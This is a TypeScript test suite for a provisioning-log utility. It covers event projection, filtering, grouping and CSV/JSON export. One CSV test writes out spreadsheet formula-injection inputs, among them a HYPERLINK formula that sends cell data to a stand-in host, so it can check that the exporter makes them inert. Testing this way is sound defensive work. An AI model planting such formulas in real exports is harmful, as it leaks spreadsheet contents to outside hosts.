import * as assert from 'node:assert/strict';
import {
  csvField, filterLogs, groupLogs, LOG_CSV_COLUMNS, logsToCsv, logsToJson, prepareLogs, toLogEvent, type LogEvent,
} from '../../../src/shared/provisioningLogs';

/** A log event with only the fields a test cares about. */
function event(over: Partial<LogEvent>): LogEvent {
  return {
    id: 'e', time: '2026-01-01T00:00:00.000Z', cycleId: 'c1', jobId: 'scim.j', changeId: 'ch', servicePrincipalId: 'sp', app: 'Contoso',
    action: 'create', status: 'success', errorCode: '', reason: '', sourceId: 'u1', sourceName: 'Ada', targetId: 't1', targetName: 'ada@contoso.com',
    identityType: 'User', initiatorType: 'system', durationMs: 5, ...over,
  };
}

/** A small RFC 4180 reader, to check that what logsToCsv writes reads back as the same fields. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i += 2; continue; }
      if (c === '"') { quoted = false; i++; continue; }
      field += c; i++; continue;
    }
    if (c === '"' && field === '') { quoted = true; i++; continue; }
    if (c === ',') { row.push(field); field = ''; i++; continue; }
    if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i += 2; continue; }
    assert.ok(c !== '\r' && c !== '\n' && c !== '"', `bare ${JSON.stringify(c)} outside quotes at ${i}`);
    field += c; i++;
  }
  assert.equal(field, '', 'ends with CRLF');
  return rows;
}

describe('provisioning logs (host-free): projection, filter, groups, export', () => {
  it('projects a Graph provisioningObjectSummary, missing parts as empty strings and times in one form', () => {
    const e = toLogEvent({
      id: 'x', activityDateTime: '2026-03-01T12:00:00Z', cycleId: 'c', jobId: 'j', changeId: 'ch', durationInMilliseconds: 12, provisioningAction: 'update',
      provisioningStatusInfo: { status: 'failure', errorInformation: { errorCode: 'SystemForCrossDomainIdentityManagementBadResponse', reason: 'The app answered 500.' } },
      servicePrincipal: { id: 'sp', displayName: 'Contoso SCIM' },
      sourceIdentity: { id: 'u', displayName: 'Ada', identityType: 'User' }, targetIdentity: null, initiatedBy: { initiatorType: 'system' },
    });
    assert.deepEqual(e, {
      id: 'x', time: '2026-03-01T12:00:00.000Z', cycleId: 'c', jobId: 'j', changeId: 'ch', servicePrincipalId: 'sp', app: 'Contoso SCIM', action: 'update',
      status: 'failure', errorCode: 'SystemForCrossDomainIdentityManagementBadResponse', reason: 'The app answered 500.', sourceId: 'u', sourceName: 'Ada',
      targetId: '', targetName: '', identityType: 'User', initiatorType: 'system', durationMs: 12,
    });
    // Seven fraction digits (as Graph may write) and a whole second sort the same way as strings afterwards.
    const a = toLogEvent({ activityDateTime: '2026-03-01T12:00:00.1234567Z' }).time;
    const b = toLogEvent({ activityDateTime: '2026-03-01T12:00:00Z' }).time;
    assert.ok(b < a);
    assert.equal(toLogEvent({}).time, '');
  });

  it('filters by words across fields (all words, any case), status, action and error code', () => {
    const items = [
      event({ id: 'a', sourceName: 'Ada Lovelace', status: 'success', action: 'create' }),
      event({ id: 'b', sourceName: 'Alan Turing', targetName: 'alan@contoso.com', status: 'failure', action: 'update', errorCode: 'SystemForCrossDomainIdentityManagementBadResponse', reason: 'The app answered 500.' }),
      event({ id: 'c', sourceName: 'Grace Hopper', status: 'skipped', action: 'other', targetName: '' }),
    ];
    assert.deepEqual(filterLogs(items, {}), [0, 1, 2]);
    assert.deepEqual(filterLogs(items, { text: 'ADA' }), [0]);
    assert.deepEqual(filterLogs(items, { text: 'turing 500' }), [1]);
    assert.deepEqual(filterLogs(items, { text: 'turing 404' }), []);
    assert.deepEqual(filterLogs(items, { status: ['failure', 'skipped'] }), [1, 2]);
    assert.deepEqual(filterLogs(items, { status: 'success', action: 'update' }), []);
    assert.deepEqual(filterLogs(items, { action: 'other' }), [2]);
    assert.deepEqual(filterLogs(items, { errorCode: '' }), [0, 2]);
    assert.deepEqual(filterLogs(items, { errorCode: 'SystemForCrossDomainIdentityManagementBadResponse' }), [1]);
    // A word does not match across two fields: "lovelace" ends one, "success" is another.
    assert.deepEqual(filterLogs(items, { text: 'lovelacesuccess' }), []);
    assert.deepEqual(filterLogs(items, { status: [] }), [0, 1, 2], 'an empty list is no status filter');
  });

  it('groups by cycle, error code and user with counts, times and statuses; newest group first', () => {
    const items = [
      event({ id: '1', cycleId: 'c2', time: '2026-01-02T10:00:00.000Z', sourceId: 'u1', sourceName: 'Ada', status: 'success' }),
      event({ id: '2', cycleId: 'c2', time: '2026-01-02T10:05:00.000Z', sourceId: 'u2', sourceName: 'Alan', status: 'failure', errorCode: 'DuplicateTargetEntries' }),
      event({ id: '3', cycleId: 'c1', time: '2026-01-01T09:00:00.000Z', sourceId: 'u1', sourceName: 'Ada', status: 'failure', errorCode: 'DuplicateTargetEntries' }),
      event({ id: '4', cycleId: 'c1', time: '2026-01-01T09:01:00.000Z', sourceId: '', sourceName: '', targetId: 't9', targetName: '', status: 'skipped' }),
    ];
    const byCycle = groupLogs(items, 'cycle');
    assert.deepEqual(byCycle.map((g) => [g.key, g.count, g.indexes, g.firstTime, g.lastTime]), [
      ['c2', 2, [0, 1], '2026-01-02T10:00:00.000Z', '2026-01-02T10:05:00.000Z'],
      ['c1', 2, [2, 3], '2026-01-01T09:00:00.000Z', '2026-01-01T09:01:00.000Z'],
    ]);
    assert.deepEqual(byCycle[0].statusCounts, { success: 1, failure: 1, skipped: 0, warning: 0 });

    const byError = groupLogs(items, 'error');
    assert.deepEqual(byError.map((g) => [g.key, g.label, g.indexes]), [['DuplicateTargetEntries', 'DuplicateTargetEntries', [1, 2]], ['', '', [0, 3]]]);

    const byUser = groupLogs(items, 'user');
    assert.deepEqual(byUser.map((g) => [g.key, g.label, g.indexes]), [['u2', 'Alan', [1]], ['u1', 'Ada', [0, 2]], ['t9', 't9', [3]]]);

    // Grouping a filtered subset keeps indexes into the whole array.
    const failures = filterLogs(items, { status: 'failure' });
    assert.deepEqual(groupLogs(items, 'cycle', failures).map((g) => [g.key, g.indexes]), [['c2', [1]], ['c1', [2]]]);
    assert.deepEqual(groupLogs([], 'user'), []);
  });

  it('follows an array that grows page by page, and starts over when it changed otherwise', () => {
    const items: LogEvent[] = [];
    for (let page = 0; page < 3; page++) {
      for (let k = 0; k < 1500; k++) items.push(event({ id: `p${page}-${k}`, cycleId: `c${page}`, sourceId: `u${k % 7}`, sourceName: k % 7 === 3 ? 'Zoë Ünal' : `User ${k % 7}` }));
      prepareLogs(items);
      assert.equal(filterLogs(items, { text: `p${page}-1499` }).length, 1, `page ${page}'s last event is searchable`);
      assert.deepEqual(groupLogs(items, 'cycle').map((g) => g.count), Array(page + 1).fill(1500));
    }
    // Filtering and grouping without prepareLogs build the same themselves.
    assert.equal(filterLogs(items, { text: 'zoë ünal' }).length, groupLogs(items, 'user').find((g) => g.key === 'u3')!.count);
    items.push(event({ id: 'late', cycleId: 'c9' }));
    assert.deepEqual(filterLogs(items, { text: 'late' }), [items.length - 1]);
    assert.equal(groupLogs(items, 'cycle').length, 4);
    // Replaced in place: what was built for the old event must not answer for the new one.
    items[items.length - 1] = event({ id: 'replaced', cycleId: 'c8' });
    assert.deepEqual(filterLogs(items, { text: 'late' }), []);
    assert.deepEqual(filterLogs(items, { text: 'replaced' }), [items.length - 1]);
    assert.ok(groupLogs(items, 'cycle').some((g) => g.key === 'c8'));
    items.length = 10;
    assert.equal(filterLogs(items, { text: 'p2-' }).length, 0, 'shortened');
  });

  it('finds words after letters whose lower case is longer (the offsets stay right)', () => {
    // 'İ' lower-cases to two code units; the events after it must still be found as themselves.
    const items = [event({ id: 'a', sourceName: 'İlkay' }), event({ id: 'b', sourceName: 'Bob' }), event({ id: 'c', sourceName: 'Cem İnce' })];
    assert.deepEqual(filterLogs(items, { text: 'bob' }), [1]);
    assert.deepEqual(filterLogs(items, { text: 'cem' }), [2]);
    assert.deepEqual(filterLogs(items, { text: 'İNCE' }), [2], 'the same lower case on both sides');
    assert.deepEqual(filterLogs(items, { text: 'zed' }), []);
  });

  it('keeps events without a time in their groups without moving the bounds', () => {
    const items = [event({ id: 'a', time: '' }), event({ id: 'b', time: '2026-01-02T00:00:00.000Z' }), event({ id: 'c', cycleId: 'c0', time: '' })];
    const groups = groupLogs(items, 'cycle');
    assert.deepEqual(groups.map((g) => [g.key, g.count, g.firstTime, g.lastTime]), [['c1', 2, '2026-01-02T00:00:00.000Z', '2026-01-02T00:00:00.000Z'], ['c0', 1, '', '']]);
  });

  it('writes CSV by RFC 4180: header of the stable columns, CRLF, quotes only where needed, doubled inside', () => {
    assert.equal(csvField('plain'), 'plain');
    assert.equal(csvField('a,b'), '"a,b"');
    assert.equal(csvField('say "hi"'), '"say ""hi"""');
    assert.equal(csvField('two\nlines'), '"two\nlines"');
    assert.equal(csvField('cr\rhere'), '"cr\rhere"');
    assert.equal(csvField(''), '');
    // Spreadsheets run a cell starting with =, +, -, @ (or a tab/CR before one) as a formula.
    assert.equal(csvField('=HYPERLINK("http://x/?"&A1,"open")'), `"'=HYPERLINK(""http://x/?""&A1,""open"")"`);
    for (const start of ['+1', '-2+3', '@SUM(A1)', '\t=1']) assert.equal(csvField(start).replace(/^"/, '')[0], "'", JSON.stringify(start));
    assert.equal(csvField('a=b'), 'a=b', 'only a leading formula character counts');
    const tricky = event({ id: 'q', reason: 'Bad "userName", see\r\nline two', sourceName: 'Smith, Jo', targetName: '=cmd' });
    const csv = logsToCsv([event({ id: 'p' }), tricky]);
    const rows = parseCsv(csv);
    assert.deepEqual(rows[0], ['time', 'cycleId', 'jobId', 'app', 'action', 'status', 'errorCode', 'reason', 'sourceId', 'sourceName', 'targetId', 'targetName', 'changeId', 'id']);
    assert.deepEqual(rows[0], [...LOG_CSV_COLUMNS]);
    assert.equal(rows.length, 3);
    assert.deepEqual(rows[2], LOG_CSV_COLUMNS.map((c) => (c === 'targetName' ? "'=cmd" : String(tricky[c]))), 'every field reads back as written, a formula made inert');
    assert.equal(logsToCsv([]), `${LOG_CSV_COLUMNS.join(',')}\r\n`);
  });

  it('writes JSON that reads back as the events', () => {
    const items = [event({ id: 'a', reason: 'quote " and \n newline' }), event({ id: 'b' })];
    assert.deepEqual(JSON.parse(logsToJson(items)), items);
  });
});
